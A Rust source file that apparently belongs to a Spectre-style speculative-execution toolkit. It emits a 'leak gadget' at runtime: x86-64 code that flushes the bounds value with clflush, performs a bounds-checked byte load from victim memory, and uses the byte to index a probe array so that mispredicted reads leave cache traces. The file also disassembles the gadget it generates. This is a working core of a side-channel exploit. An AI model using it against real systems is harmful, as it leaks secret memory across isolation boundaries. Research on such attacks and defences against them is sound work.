use dynasmrt::{
    dynasm,
    DynasmApi,
    DynasmLabelApi,
    AssemblyOffset,
    Assembler,
    ExecutableBuffer,
    x64::X64Relocation,
};
use iced_x86::{
    Decoder, DecoderOptions, Instruction, Formatter, IntelFormatter, Mnemonic
};
use log::debug;

use crate::error::{Error, Result};
use crate::probe::{PartitionLayout, ProbeArray};
use crate::victim::VictimMemory;

/// Fallback/default assembler from [dynasmrt].
pub type X64Assembler = Assembler<X64Relocation>;

/// Signature of the emitted gadget: `(x, data_base, probe_base, bound_ptr)`.
pub type LeakFn = extern "sysv64" fn(usize, *const u8, *const u8, *const usize) -> usize;

/// Helpers for emitting the pieces of a gadget.
pub trait Emitter: DynasmLabelApi<Relocation=X64Relocation> {
    fn emit_clflush_base(&mut self, base: u8) {
        dynasm!(self ; clflush [ Rq(base) ]);
    }
    fn emit_zero_rax(&mut self) {
        dynasm!(self ; xor eax, eax);
    }
    fn emit_ret(&mut self) {
        dynasm!(self ; ret);
    }

    /// `if rdi < [rcx] { rax = probe[data[rdi] << shift] }`
    ///
    /// RSI holds the victim data base and RDX the probe array base.
    fn emit_bounded_probe_load(&mut self, shift: i8) {
        dynasm!(self
            ; cmp rdi, QWORD [rcx]
            ; jae >skip
            ; movzx eax, BYTE [rsi + rdi]
            ; shl rax, BYTE shift
            ; movzx eax, BYTE [rdx + rax]
            ; skip:
        );
    }
}
impl Emitter for X64Assembler {}

/// The leak primitive as machine code, emitted for one partition layout.
///
/// Architecturally, the gadget only ever dereferences `data_base + x` when
/// `x` is below the bound. Only the mispredicted path reads further.
pub struct LeakGadget {
    buf: ExecutableBuffer,
    entry: AssemblyOffset,
    layout: PartitionLayout,
    evict_bound: bool,
}

impl LeakGadget {
    const RCX: u8 = 1;

    pub fn emit(layout: PartitionLayout, evict_bound: bool) -> Result<Self> {
        let mut f = X64Assembler::new()
            .map_err(|e| Error::Gadget(e.to_string()))?;
        let entry = f.offset();

        if evict_bound {
            f.emit_clflush_base(Self::RCX);
        }
        f.emit_zero_rax();
        f.emit_bounded_probe_load(layout.shift() as i8);
        f.emit_ret();

        let buf = f.finalize()
            .map_err(|_| Error::Gadget("unresolved labels".to_string()))?;
        debug!("emitted leak gadget ({} bytes, shift {}, evict_bound {})",
            buf.len(), layout.shift(), evict_bound);
        Ok(Self { buf, entry, layout, evict_bound })
    }

    pub fn layout(&self) -> PartitionLayout { self.layout }

    pub fn evicts_bound(&self) -> bool { self.evict_bound }

    fn as_fn(&self) -> LeakFn {
        let ptr = self.buf.ptr(self.entry);
        unsafe { std::mem::transmute::<*const u8, LeakFn>(ptr) }
    }

    /// Call the gadget. Returns the probe byte that was loaded, or zero when
    /// `x` is out of bounds.
    pub fn call(&self, victim: &VictimMemory, probe: &ProbeArray, x: usize) -> usize {
        debug_assert_eq!(probe.layout(), self.layout);
        (self.as_fn())(x, victim.data_ptr(), probe.base_ptr(), victim.bound_ptr())
    }

    fn decode(&self) -> Vec<Instruction> {
        let ptr = self.buf.ptr(self.entry);
        let buf: &[u8] = &self.buf[self.entry.0..];
        let mut decoder = Decoder::with_ip(64, buf, ptr as u64, DecoderOptions::NONE);
        let mut res = Vec::new();
        while decoder.can_decode() {
            res.push(decoder.decode());
        }
        res
    }

    pub fn mnemonics(&self) -> Vec<Mnemonic> {
        self.decode().iter().map(|i| i.mnemonic()).collect()
    }

    /// Disassemble the gadget, one formatted line per instruction.
    pub fn disas(&self) -> Vec<String> {
        let addr = self.buf.ptr(self.entry) as u64;
        let buf: &[u8] = &self.buf[self.entry.0..];
        let mut formatter = IntelFormatter::new();
        formatter.options_mut().set_digit_separator("_");

        let mut output = String::new();
        let mut lines = Vec::new();
        for instr in self.decode() {
            output.clear();
            formatter.format(&instr, &mut output);
            let start_idx = (instr.ip() - addr) as usize;
            let bytestr: String = buf[start_idx..start_idx + instr.len()]
                .iter().map(|b| format!("{:02x}", b)).collect();
            lines.push(format!("{:016x}: {:32} {}", instr.ip(), bytestr, output));
        }
        lines
    }
}
